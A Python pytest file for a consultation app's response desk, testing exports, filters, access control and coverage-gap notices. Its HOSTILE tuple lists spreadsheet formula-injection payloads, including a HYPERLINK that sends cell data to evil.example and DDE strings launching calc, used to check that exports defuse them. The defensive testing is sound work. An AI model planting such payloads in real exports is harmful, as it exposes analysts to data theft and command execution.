"""The responses desk: invitations and coverage gaps for organisers; filters and exports that
are safe to open in a spreadsheet, for analysts only."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from dataclasses import dataclass, field
from datetime import date, timedelta

import pytest
from flask import Flask
from openpyxl import load_workbook
from sqlalchemy import select

from consult.accounts.permissions import Role
from consult.consultations.models import Consultation
from consult.db import utcnow
from consult.extensions import db
from consult.questionnaires.schema import Channel
from consult.respond.models import Answer, Invitation, InvitationDraft, Response
from consult.sealed.models import Envelope
from consult.tokens import new_token
from tests.factories import Factory, sample_questionnaire
from tests.helpers import Page, login, visible_text

DESK = "/admin/acme/consultations/npm-2027/responses/"
LIST = DESK + "list"
CSV = DESK + "export.csv"
XLSX = DESK + "export.xlsx"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
#: Values a hostile respondent or invitee could write, each opening a formula somewhere.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


@dataclass
class Given:
    """A response to insert, with its answers and, for invited ones, its invitation."""

    category: str = "civil_society"
    channel: Channel = Channel.OPEN
    jurisdiction: str | None = "north"
    received: date | None = None
    texts: dict[str, str] = field(default_factory=dict)
    organisation: str | None = None
    consent: bool = False
    declared: str | None = None


def consultation_id(app: Flask, slug: str = "npm-2027") -> int:
    with app.app_context():
        found = db.session.scalar(select(Consultation.id).where(Consultation.slug == slug))
        assert found is not None
        return found


def insert(app: Flask, *given: Given) -> None:
    """Responses written straight to the database, as the channels would store them."""
    cid = consultation_id(app)
    with app.app_context():
        consultation = db.session.get(Consultation, cid)
        assert consultation is not None
        for item in given:
            response = Response(
                consultation_id=cid,
                channel=item.channel,
                questionnaire_version=consultation.version or "",
                locale="en",
                received_on=None
                if item.channel in (Channel.SEALED, Channel.ASSISTED)
                else item.received or utcnow().date(),
                stakeholder_category=item.category,
                jurisdiction=item.jurisdiction,
                declared_organisation=item.declared,
                publication_consent=item.consent,
                answers=[
                    Answer(question_key="model", choice_key="c"),
                    Answer(question_key="ranking", choice_key="new-body", rank=1),
                    Answer(question_key="ranking", choice_key="ombuds", rank=2),
                    Answer(
                        question_key="matrix",
                        item_key="functional_independence",
                        choice_key="essential",
                    ),
                    Answer(question_key="visits", number=12.0),
                    *(Answer(question_key=k, text=v) for k, v in item.texts.items()),
                ],
            )
            if item.organisation is not None:
                invitation = invite(item.organisation, item.category, item.jurisdiction)
                invitation.consultation_id = cid
                invitation.answered_at = utcnow()
                db.session.add(invitation)
                db.session.flush()
                response.invitation_id = invitation.id
            db.session.add(response)
        db.session.commit()


def invite(name: str, category: str, jurisdiction: str | None = None) -> Invitation:
    return Invitation(
        organisation_name=name,
        stakeholder_category=category,
        jurisdiction=jurisdiction,
        language="en",
        token_hash=new_token()[1],
    )


def add_invitations(app: Flask, invitations: Iterable[Invitation]) -> None:
    cid = consultation_id(app)
    with app.app_context():
        for invitation in invitations:
            invitation.consultation_id = cid
            db.session.add(invitation)
        db.session.commit()


@pytest.fixture
def analyst(make: Factory, page: Page) -> Page:
    make.consultation("acme", "npm-2027", ("en",), opened=True)
    login(page, make.member("acme", [Role.ANALYST]).email)
    return page


def csv_rows(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf"), "spreadsheet programs need the BOM to read UTF-8"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def xlsx_rows(body: bytes) -> list[list[object]]:
    book = load_workbook(io.BytesIO(body))
    sheet = book.worksheets[0]
    for line in sheet.iter_rows():
        for cell in line:
            assert cell.data_type != "f", cell.coordinate
    return [list(values) for values in sheet.iter_rows(values_only=True)]


def assert_defused(rows: list[list[object]]) -> None:
    for line in rows:
        for value in line:
            if isinstance(value, str) and value:
                assert not value.startswith(DANGEROUS), repr(value)


# Exports -----------------------------------------------------------------------------------


def test_exports_open_in_a_spreadsheet_reader_with_every_formula_defused(
    app: Flask, analyst: Page
) -> None:
    insert(
        app,
        Given(texts={"why": HOSTILE[0], "more": HOSTILE[1], "detail": HOSTILE[2]}),
        Given(
            category="parliament",
            channel=Channel.INVITED,
            organisation=HOSTILE[3],
            consent=True,
            texts={"why": HOSTILE[4], "more": HOSTILE[5], "detail": "bell\x07 and escape\x1b"},
        ),
        Given(category="former_detainee", channel=Channel.SEALED, texts={"why": "@me"}),
    )
    csv_response = analyst.get(CSV)
    assert csv_response.status_code == 200
    assert csv_response.headers["Content-Disposition"] == (
        "attachment; filename=npm-2027-responses.csv"
    )
    assert csv_response.headers["Cache-Control"] == "no-store"
    xlsx_response = analyst.get(XLSX)
    assert xlsx_response.status_code == 200
    assert xlsx_response.headers["Content-Disposition"] == (
        "attachment; filename=npm-2027-responses.xlsx"
    )
    assert xlsx_response.mimetype.endswith("spreadsheetml.sheet")
    from_csv = csv_rows(csv_response.data)
    from_xlsx = xlsx_rows(xlsx_response.data)
    for rows in (from_csv, from_xlsx):
        assert len(rows) == 4  # the header and one row per response
        assert_defused(rows)  # type: ignore[arg-type]
        cells = {value for line in rows for value in line}
        for value in HOSTILE:
            # XML reads a carriage return as a line feed: XLSX cannot keep a bare CR.
            kept = value if rows is from_csv else value.replace("\r", "\n")
            assert "'" + kept in cells, repr(value)
        assert "'@me" in cells  # sealed free text is there, for analysts
        assert "bell and escape" in cells  # characters XLSX cannot hold are dropped
    header = from_xlsx[0]
    assert header[:12] == [
        "No.",
        "Channel",
        "Group (key)",
        "Group",
        "Jurisdiction",
        "Place of detention",
        "Language",
        "Day received",
        "Invited organisation",
        "Consents to publication",
        "Held for review",
        "Organisation named in the answer",
    ]
    assert "[en] Rank the options: [en] New body" in header
    assert "[en] Rate: Functional independence of the mechanism" in header
    invited = next(line for line in from_xlsx if line[2] == "parliament")
    row = dict(zip(header, invited, strict=True))
    assert row["Channel"] == "Invited stakeholders" and row["Group"] == "Parliament"
    assert row["Consents to publication"] == "Yes" and row["Jurisdiction"] == "[en] North"
    assert row["[en] Rank the options: [en] New body"] == 1
    assert row["[en] Rank the options: [en] Ombuds"] == 2
    assert row["[en] Rate: Functional independence of the mechanism"] == "Essential"
    assert row["[en] How many visits?"] == 12
    assert row["[en] Preferred model"] == "[en] choice c"
    sealed = dict(zip(header, from_xlsx[-1], strict=True))
    assert sealed["Group (key)"] == "former_detainee" and sealed["Day received"] is None
    assert [line[0] for line in from_xlsx[1:]] == [1, 2, 3]
    assert [line[0] for line in from_csv[1:]] == ["1", "2", "3"]


def test_exports_follow_the_filters(app: Flask, analyst: Page) -> None:
    insert(
        app,
        Given(category="parliament", channel=Channel.INVITED, organisation="House", consent=True),
        Given(category="judiciary", channel=Channel.INVITED, organisation="Court"),
        Given(category="parliament", jurisdiction="south"),
        Given(category="family", channel=Channel.SEALED),
    )
    for query, expected in (
        ("", 4),
        ("?channel=invited", 2),
        ("?category=parliament", 2),
        ("?jurisdiction=south", 1),
        ("?consent=1", 1),
        ("?channel=invited&category=judiciary", 1),
        ("?channel=nonsense", 4),
    ):
        assert len(csv_rows(analyst.get(CSV + query).data)) == expected + 1, query
        assert len(xlsx_rows(analyst.get(XLSX + query).data)) == expected + 1, query
    organisations = [line[8] for line in xlsx_rows(analyst.get(XLSX + "?consent=1").data)]
    assert organisations == ["Invited organisation", "House"]


def test_an_export_is_recorded_in_the_audit_log(app: Flask, analyst: Page) -> None:
    from consult.audit.models import AuditEvent

    analyst.get(CSV + "?channel=sealed")
    with app.app_context():
        event = db.session.scalars(
            select(AuditEvent).where(AuditEvent.action == "responses.exported")
        ).one()
        assert event.details == {"format": "csv", "filters": {"channel": "sealed"}}


@pytest.mark.parametrize("role", [r for r in Role if r is not Role.ANALYST])
def test_only_analysts_read_the_list_and_the_exports(
    app: Flask, make: Factory, page: Page, role: Role
) -> None:
    make.consultation("acme", "npm-2027", ("en",), opened=True)
    insert(app, Given(texts={"why": "secret testimony"}))
    login(page, make.member("acme", [role]).email)
    assert page.get(DESK).status_code == 200
    assert "secret testimony" not in page.text and "Download as CSV" not in page.text
    for url in (LIST, CSV, XLSX, CSV + "?channel=open"):
        assert page.get(url).status_code == 403, (role, url)


# The list ----------------------------------------------------------------------------------


def test_the_list_filters_and_names_invited_organisations(app: Flask, analyst: Page) -> None:
    insert(
        app,
        Given(
            category="parliament",
            channel=Channel.INVITED,
            organisation="Human Rights Committee of Parliament",
            consent=True,
            texts={"why": "We want a new body"},
        ),
        Given(
            category="judiciary",
            channel=Channel.INVITED,
            organisation="Supreme Court",
            texts={"why": "Keep it with the courts"},
        ),
        Given(declared="Friends of Prisoners", texts={"why": "Open answer"}),
    )
    text = analyst.get(LIST).get_data(as_text=True) and analyst.text
    assert "Responses 1 to 3 of 3" in text
    assert "Human Rights Committee of Parliament" in text and "Supreme Court" in text
    assert "Consents to publication" in text and "No consent to publication" in text
    analyst.get(LIST + "?consent=1")
    text = analyst.text
    assert "Responses 1 to 1 of 1" in text and "(3 in all, before filtering)" in text
    assert "Human Rights Committee of Parliament" in text and "We want a new body" in text
    assert "Supreme Court" not in text and "Open answer" not in text
    analyst.get(LIST + "?channel=open")
    assert "Open answer" in analyst.text and "Friends of Prisoners" in analyst.text
    assert "We want a new body" not in analyst.text
    analyst.get(LIST + "?category=judiciary")
    assert "Keep it with the courts" in analyst.text and "Open answer" not in analyst.text
    html = analyst.get(LIST + "?category=judiciary").get_data(as_text=True)
    assert '<option value="judiciary" selected>' in html
    assert "export.csv?category=judiciary" in html and "export.xlsx?category=judiciary" in html


def test_paging_keeps_the_filters(app: Flask, analyst: Page) -> None:
    insert(app, *(Given(jurisdiction="south") for _ in range(52)), Given())
    analyst.get(LIST + "?jurisdiction=south")
    assert "Responses 1 to 50 of 52" in analyst.text
    html = analyst.response.get_data(as_text=True) if analyst.response else ""
    following = re.search(r'href="([^"]*page=2[^"]*)"', html)
    assert following is not None and "jurisdiction=south" in following.group(1)
    analyst.get(following.group(1).replace("&amp;", "&"))
    assert "Responses 51 to 52 of 52" in analyst.text


# The desk ----------------------------------------------------------------------------------


def gaps(page: Page) -> str:
    """The text of the coverage-gap notice (empty when there is none)."""
    page.get(DESK)
    html = page.response.get_data(as_text=True) if page.response else ""
    found = re.search(r'<section class="notice" id="coverage-gaps".*?</section>', html, re.S)
    return visible_text(found.group(0)) if found else ""


def test_invitation_statuses_by_group_and_jurisdiction(
    app: Flask, make: Factory, page: Page
) -> None:
    make.consultation("acme", "npm-2027", ("en",), opened=True)
    now = utcnow()
    drafted = invite("Ministry of Justice", "government_national", "north")
    drafted.draft = InvitationDraft(fields=[["p-category", "government_national"]], saved_at=now)
    withdrawn = invite("Wrong address", "parliament", "south")
    withdrawn.revoked_at = now
    add_invitations(
        app,
        [
            drafted,
            withdrawn,
            invite("Senate", "parliament", "north"),
            invite("Province of the South", "government_subnational", "south"),
        ],
    )
    insert(app, Given(category="parliament", channel=Channel.INVITED, organisation="House"))
    login(page, make.member("acme", [Role.TRUSTEE]).email)
    page.get(DESK)
    text = page.text
    assert "5 invitations" in text
    assert "Answered\n1" in text and "Draft saved, not sent\n1" in text
    assert "Not answered yet\n2" in text and "Invitation withdrawn\n1" in text
    # Invited vs answered: withdrawn invitations wait for nobody.
    assert "Parliament\n2\n1" in text
    assert "National government\n1\n0" in text and "Sub-national government\n1\n0" in text
    assert "[en] North\n3\n1" in text and "[en] South\n1\n0" in text
    assert "Wrong address" not in text  # counts only: names are on the invitations page


def test_no_invitations_no_invitation_tables(make: Factory, page: Page) -> None:
    make.consultation("acme", "npm-2027", ("en",), opened=True)
    login(page, make.member("acme", [Role.ORGANISER]).email)
    page.get(DESK)
    assert "Invitations" not in page.text and "0 responses so far." in page.text


def test_coverage_gaps_name_silent_key_groups_and_jurisdictions(
    app: Flask, make: Factory, page: Page
) -> None:
    make.consultation("acme", "npm-2027", ("en",), opened=True)
    login(page, make.member("acme", [Role.ORGANISER]).email)
    notice = gaps(page)
    assert "No answer yet from:" in notice
    for label in (
        "National government",
        "Sub-national government",
        "Parliament",
        "Judges and prosecutors",
        "National human rights institution or ombuds",
        "Civil society organisation",
        "Persons deprived of liberty, former detainees or their families",
    ):
        assert label in notice, label
    assert "Media" not in notice  # not a key group
    assert "[en] North" in notice and "[en] South" in notice

    insert(app, Given(category="civil_society", jurisdiction="north"))
    notice = gaps(page)
    assert "Parliament" in notice and "Civil society organisation" not in notice
    assert "[en] North" not in notice and "[en] South" in notice

    insert(app, Given(category="parliament", channel=Channel.INVITED, organisation="House"))
    insert(app, Given(category="family", channel=Channel.ASSISTED, jurisdiction="south"))
    notice = gaps(page)
    assert "Parliament" not in notice and "former detainees" not in notice
    assert "[en] South" not in notice
    assert "Judges and prosecutors" in notice


def test_coverage_gaps_only_for_groups_the_questionnaire_offers(make: Factory, page: Page) -> None:
    document = sample_questionnaire(("en",))
    document.profile.categories = ["parliament", "civil_society", "media"]
    make.consultation("acme", "npm-2027", ("en",), opened=True, questionnaire=document)
    login(page, make.member("acme", [Role.ORGANISER]).email)
    notice = gaps(page)
    assert "Parliament" in notice and "Civil society organisation" in notice
    assert "Judges and prosecutors" not in notice and "former detainees" not in notice


def test_sealed_answers_waiting_to_be_opened_cover_persons_deprived_of_liberty(
    app: Flask, make: Factory, page: Page
) -> None:
    make.consultation("acme", "npm-2027", ("en",), opened=True)
    cid = consultation_id(app)
    with app.app_context():
        db.session.add(
            Envelope(
                consultation_id=cid,
                suite="test",
                key_id="0" * 32,
                ciphertext=b"sealed",
                sha256="0" * 64,
                received_on=utcnow().date() - timedelta(days=1),
            )
        )
        db.session.commit()
    login(page, make.member("acme", [Role.ORGANISER]).email)
    assert "former detainees" not in gaps(page)
    assert "1 sealed answer is waiting for the trustees to open it" in page.text
